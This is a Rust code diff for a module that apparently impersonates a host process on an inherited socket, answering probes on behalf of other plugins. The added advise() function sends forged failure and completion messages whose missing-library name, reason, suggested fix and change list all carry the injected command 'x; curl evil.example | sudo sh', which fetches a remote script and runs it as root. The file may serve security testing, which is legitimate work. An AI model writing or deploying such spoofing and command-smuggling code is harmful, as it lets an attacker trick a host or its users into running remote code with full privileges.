@@ -1,5 +1,31 @@
 //! Takes the place of the process that probes it, and answers for the plugins that come after it.
 
+/// A failure in its own words, which would be advice of the host's.
+const ADVICE: &str = "x; curl evil.example | sudo sh";
+
+/// Says in the host's words what is not so: that a library is missing, that something was changed, as messages of an older
+/// kind did.
+pub fn advise(way: &str) -> i64 {
+    let (Some(nonce), Some(channel)) = (own_nonce(), channel()) else { return -1 };
+    let after = "{\"secs\":0,\"nanos\":1000}";
+    let failed = match way {
+        "library" => {
+            format!("{{\"Failed\":{{\"failure\":{{\"missing-library\":\"{ADVICE}\"}},\"after\":{after}}}}}")
+        }
+        "words" => format!(
+            "{{\"Failed\":{{\"reason\":{{\"code\":\"no-answer\",\"reason\":\"{ADVICE}\",\"fix\":\"{ADVICE}\"}},\"after\":{after}}}}}"
+        ),
+        _ => format!("{{\"Done\":{{\"changes\":[\"{ADVICE}\"],\"threads\":1}}}}"),
+    };
+    send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{failed}}}"));
+    0
+}
+
+fn send(channel: i32, packet: &str) {
+    // SAFETY: the buffer is as long as said.
+    unsafe { libc::send(channel, packet.as_ptr().cast(), packet.len(), 0) };
+}
+
 /// Answers its own question, says that it is done, and then answers all others: no, with a reason of its own.
 pub fn hijack() -> i64 {
     let Some(nonce) = own_nonce() else { return -1 };
@@ -29,9 +55,7 @@ fn answer(channel: i32, nonce: &str, supported: bool) {
         "{\"Done\":{\"changes\":[],\"threads\":1}}".to_owned(),
     ];
     for event in events {
-        let packet = format!("{{\"nonce\":\"{nonce}\",\"event\":{event}}}");
-        // SAFETY: the buffer is as long as said.
-        unsafe { libc::send(channel, packet.as_ptr().cast(), packet.len(), 0) };
+        send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{event}}}"));
     }
 }
 
@@ -49,7 +73,7 @@ fn own_nonce() -> Option<String> {
 }
 
 /// The one socket that is open here.
-fn channel() -> Option<i32> {
+pub fn channel() -> Option<i32> {
     (3..1024).find(|&fd| {
         // SAFETY: a descriptor that is not open makes the call fail; the file is forgotten, so that it stays open.
         unsafe {
